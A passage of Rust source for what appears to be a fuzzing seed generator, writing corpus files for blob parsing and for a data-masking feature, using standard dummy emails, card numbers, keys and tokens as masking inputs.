        raw.extend_from_slice(&blob);
        out.put("blob", &format!("raw-{name}"), &raw);
        out.put(
            "blob",
            &format!("raw-{name}-truncated"),
            &raw[..raw.len() / 2],
        );
        let mut payload = vec![2u8];
        payload.extend_from_slice(&blob[48..]);
        out.put("blob", &format!("payload-{name}"), &payload);
        let which = if name == "orders-db" { 4u8 } else { 0 };
        out.put(
            "blob",
            &format!("edit-{name}"),
            &[1 | which, 0, 0, 120, b'x', 1, 0, 200, b','],
        );
    }
    out.put("blob", "raw-magic-only", b"\0PINHOLE\0");
    out.put(
        "blob",
        "payload-minimal",
        b"\x02{\"meta\":{\"compiler\":\"x\",\"source_sha256\":\"00\"},\"policy\":{\"issuers\":[],\"roles\":[],\"targets\":[{\"name\":\"t\",\"protocol\":\"mcp\"}],\"rules\":[]}}",
    );
}

// ------------------------------------------------------------ masking

fn mask_seeds(out: &mut Out) {
    let text = "Contact jane.doe@example.com or +44 20 7946 0958 / (415) 555-2671. \
                Card 4111 1111 1111 1111, IBAN GB82 WEST 1234 5698 7654 32, SSN 078-05-1120, \
                key AKIAIOSFODNN7EXAMPLE, Authorization: Bearer abcDEF1234567890ghiJKL, \
                token eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl\n\
                -----BEGIN RSA PRIVATE KEY-----\nMIIBOgIBAAJBAK\n-----END RSA PRIVATE KEY-----\n\
                é漢字 4012888888881881 DE89370400440532013000";
    let json = r#"{"customer":{"email":"a@b.example","name":"Jane","phone":"+1 415 555 2671"},"items":[{"card":"4111111111111111","qty":2},{"card":5500005555555559}],"rows":[{"ssn":"078-05-1120"}],"email":["x@y.example",{"email":true}],"notes":"call 020 7946 0958","a@b.example":1}"#;
    let mcp = r#"{"content":[{"type":"text","text":"{\"email\":\"a@b.example\"}"},{"type":"text","text":"mail me at a@b.example"},{"type":"image","data":"AAAA"}],"structuredContent":{"email":"c@d.example"},"isError":false}"#;
    for spec in 0u8..4 {
        let prefix = |op: u8| -> Vec<u8> {
            let mut v = vec![spec | (op << 2)];
            match spec {
                2 => {
                    let p = r"[0-9]{3}-[0-9]{4}";
                    v.push(p.len() as u8);
                    v.extend_from_slice(p.as_bytes());
                }
                3 => {
                    let p = "customer.**";
                    v.push(p.len() as u8);
                    v.extend_from_slice(p.as_bytes());
                }
                _ => {}
            }
            v
        };
        let mut t = prefix(0);
        t.extend_from_slice(text.as_bytes());
        out.put("mask", &format!("text-spec{spec}"), &t);
        let mut j = prefix(1);
        j.extend_from_slice(json.as_bytes());
        out.put("mask", &format!("json-spec{spec}"), &j);
        let mut m = prefix(1);
        m.extend_from_slice(mcp.as_bytes());
        out.put("mask", &format!("mcp-result-spec{spec}"), &m);
        // A row: 5 columns (name, type, format, table), then values.
        let mut r = prefix(2);
        r.push(4); // 5 columns
        for (name, ty, fmt, table) in [
            (0u8, 0u8, 0u8, 1u8),
            (1, 1, 0, 1),
            (2, 3, 1, 2),
            (3, 2, 0, 0),
            (4, 4, 1, 0),
        ] {
            r.extend_from_slice(&[name, ty, fmt, table]);
        }
        for v in [
            &b"a@b.example"[..],
            b"078-05-1120",
            b"\x01{\"n\":\"4111111111111111\"}",
            b"{\"note\":\"x\"}",
        ] {
            r.push(v.len() as u8);
            r.extend_from_slice(v);
        }
        r.push(255);
        out.put("mask", &format!("row-spec{spec}"), &r);
    }
}

fn main() {
    let root: PathBuf = std::env::args()
        .nth(1)
        .map(PathBuf::from)
        .unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../corpus"));
    let mut out = Out { root, count: 0 };
    pg_seeds(&mut out);
    sql_seeds(&mut out);
    mcp_seeds(&mut out);
    jwt_seeds(&mut out);
    blob_seeds(&mut out);
    mask_seeds(&mut out);
    println!(
        "seedgen: wrote {} seed files under {}",
        out.count,
        out.root.display()
    );
}
